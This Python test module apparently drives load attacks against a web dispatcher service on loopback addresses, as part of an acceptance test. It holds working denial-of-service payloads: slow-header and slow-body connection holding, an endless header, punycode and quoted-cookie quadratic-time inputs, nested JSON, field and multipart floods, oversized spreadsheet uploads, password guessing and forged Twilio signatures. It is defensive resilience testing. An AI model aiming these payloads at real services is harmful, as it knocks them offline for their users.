"""What a stranger, or somebody signed in, can send to stop the service: `python -m tests.attacks URL NAME S`.

Each attack runs for so many seconds from connections of its own, as fast as it gets answers, from other
loopback addresses than whoever measures. `tests/acceptance/test_web_under_attack.py` runs them.
"""

from __future__ import annotations

import http.client
import io
import os
import socket
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from contextlib import suppress
from itertools import count
from urllib.parse import urlencode, urlparse

FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=XX"
SENDERS = 4
SESSION = (
    "DISPATCHER_TEST_SESSION"  # of an organiser: the cookie and the token of its forms, parted by a space
)
_sources = count(2)


class Attacker:
    """Whoever sends; each of its connections comes from the next loopback address."""

    def __init__(self, url: str, until: float) -> None:
        self._address = (urlparse(url).hostname or "", urlparse(url).port or 80)
        self._until = until
        self.cookie, _space, self.csrf = os.environ.get(SESSION, "").partition(" ")

    @property
    def goes_on(self) -> bool:
        """Tell whether there is time left."""
        return time.monotonic() < self._until

    def connect(self) -> socket.socket:
        """Open a connection."""
        n = next(_sources)
        source = f"127.{1 + n // 60_000 % 250}.{n // 240 % 250}.{2 + n % 240}"
        return socket.create_connection(self._address, timeout=10, source_address=(source, 0))

    def send(self, method: str, path: str, body: bytes = b"", **headers: str) -> None:
        """Send one request and wait for its answer."""
        line = http.client.HTTPConnection(*self._address, timeout=10)
        line.sock = self.connect()
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        line.request(method, path, body or None, named)
        line.getresponse().read()
        line.close()

    def hold(self, connections: int, first: bytes, drip: bytes = b"") -> None:
        """Keep connections open that begin with `first`, and send a little now and then."""
        lines: list[socket.socket] = []
        while self.goes_on:
            with suppress(OSError):
                if len(lines) < connections:
                    lines.append(self.connect())
                    lines[-1].sendall(first)
                    continue
            for line in lines:
                with suppress(OSError):
                    line.send(drip)
            time.sleep(0.1)
        for line in lines:
            line.close()


Attack = Callable[[Attacker], None]


def part(value: bytes, name: str = "name", more: str = "") -> bytes:
    """One part of a multipart body."""
    return f'--XX\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n'.encode() + value + b"\r\n"


def punycode(length: int) -> bytes:
    """What a codec that the caller names needs time for that grows with the square of its length."""
    return ("\U0010ffff" + "a" * length).encode("punycode") + b"a" * length


def head(path: str, length: int, content_type: str = FORM) -> bytes:
    """The head of a request whose body is to come."""
    return (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {length}\r\n"
        f"Content-Type: {content_type}\r\n\r\n"
    ).encode()


def endless_header(attacker: Attacker) -> None:
    """Send a header that does not end, fifty megabytes a connection."""
    with attacker.connect() as line:
        line.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ")
        for _ in range(800):
            line.sendall(b"a" * 65_536)


def guess(attacker: Attacker) -> None:
    """Guess a password as the form is meant to be filled in."""
    line = http.client.HTTPConnection(*attacker._address, timeout=10)
    line.sock = attacker.connect()
    line.request("GET", "/sign-in")
    answer = line.getresponse()
    csrf = answer.read().decode().partition('name="csrf" value="')[2].partition('"')[0]
    cookie = (answer.getheader("set-cookie") or "").partition(";")[0]
    body = urlencode({"csrf": csrf, "name": "admin", "password": "x" * 190, "next": "/"})
    line.request("POST", "/sign-in", body, {"Cookie": cookie, "Content-Type": FORM})
    line.getresponse().read()
    line.close()


def workbook(cell: str) -> bytes:
    """A workbook of some hundred bytes with one cell far out."""
    row = cell.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    packages = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{packages}/content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/></Types>',
        )
        for name, kind, target in (
            ("_rels/.rels", "officeDocument", "xl/workbook.xml"),
            ("xl/_rels/workbook.xml.rels", "worksheet", "worksheets/sheet1.xml"),
        ):
            archive.writestr(
                name,
                f'<Relationships xmlns="{packages}/relationships"><Relationship Id="r1" '
                f'Type="{office}/{kind}" Target="{target}"/></Relationships>',
            )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/>'
            "</sheets></workbook>",
        )
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
            f'<row r="{row}"><c r="{cell}"><v>1</v></c></row></sheetData></worksheet>',
        )
    return made.getvalue()


def upload(name: str, content: Callable[[], bytes]) -> Attack:
    """Upload a list as somebody who may."""

    def attack(attacker: Attacker) -> None:
        body = part(attacker.csrf.encode(), "csrf")
        body += part(content(), "file", f'; filename="{name}"') + b"--XX--\r\n"
        attacker.send("POST", "/opt-outs/uploads", body, Content_Type=MULTIPART, Cookie=attacker.cookie)

    return attack


def once(method: str, path: str, body: Callable[[], bytes] = bytes, **headers: str) -> Attack:
    """Send the same request again and again."""
    return lambda attacker: attacker.send(method, path, body(), **headers)


def quoted_cookie() -> str:
    """A cookie that older versions of Python need time for that grows with the square of its length."""
    return 'lang="' + '\\"' * 30_000 + '"'


ATTACKS: dict[str, Attack] = {
    "codec": once(
        "POST", "/sign-in", lambda: part(punycode(125_000)) + b"--XX--\r\n",
        Content_Type=f"{MULTIPART}; charset=punycode", Cookie="dispatcher-form=x",
    ),
    "codec of one click": once(
        "POST", "/u/x", lambda: part(punycode(125_000)) + part(b"punycode", "_charset_") + b"--XX--\r\n",
        Content_Type=MULTIPART,
    ),
    "many parts": once(
        "POST", "/u/x", lambda: part(b"a") * 3_500 + b"--XX--\r\n", Content_Type=MULTIPART
    ),
    "many fields": once("POST", "/sign-in", lambda: b"a=1&" * 60_000, Content_Type=FORM),
    "quoted cookie": once("GET", "/healthz", Cookie=quoted_cookie()),
    "endless header": endless_header,
    "guessing": guess,
    "asking for links": once("POST", "/forgotten", lambda: b"name=admin", Content_Type=FORM),
    "forged links": once("GET", f"/u/{'A' * 900}"),
    "forged callbacks": once(
        "POST", "/twilio/inbound", lambda: b"a=1&" * 15_000, Content_Type=FORM, X_Twilio_Signature="x" * 28
    ),
    "nested push": once("POST", "/api/v1/push/x", lambda: b"[" * 250_000, Content_Type="application/json"),
    "large push": lambda attacker: attacker.hold(
        20, head("/api/v1/push/uploads", 20_000_000) + b"a" * 500_000, b"a" * 1000
    ),
    "description of the API": once("GET", "/api/openapi.json"),
    "idle connections": lambda attacker: attacker.hold(300, b""),
    "slow heads": lambda attacker: attacker.hold(100, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X: a\r\n"),
    "slow bodies": lambda attacker: attacker.hold(100, head("/sign-in", 100_000), b"a"),
    "upload without a session": lambda attacker: attacker.hold(
        20, head("/opt-outs/uploads", 20_000_000, MULTIPART), b"a" * 1000
    ),
    "far cell": upload("list.xlsx", lambda: workbook("XFD3000")),
    "wide line": upload("list.csv", lambda: b"a," * 1_000_000),
    "long cell": upload("list.csv", lambda: b"H\xe1\xbb\x8d t\xc3\xaan,S\xc4\x90T\nAn," + b"1" * 10_000_000),
    "long list": upload(
        "list.csv",
        lambda: b"Ten,SDT\n" + b"".join(b"Nguyen Van An %d,09%08d\n" % (n, n) for n in range(20_000)),
    ),
    "open pages": lambda attacker: attacker.hold(
        30, f"GET /live HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {attacker.cookie}\r\n\r\n".encode()
    ),
}  # fmt: skip


def run(url: str, name: str, seconds: float) -> None:
    """Attack for so many seconds."""
    attacker, attack = Attacker(url, time.monotonic() + seconds), ATTACKS[name]

    def go_on() -> None:
        while attacker.goes_on:
            with suppress(OSError, http.client.HTTPException):
                attack(attacker)

    senders = [threading.Thread(target=go_on) for _ in range(SENDERS)]
    for sender in senders:
        sender.start()
    for sender in senders:
        sender.join()


if __name__ == "__main__":
    run(sys.argv[1], sys.argv[2], float(sys.argv[3]))
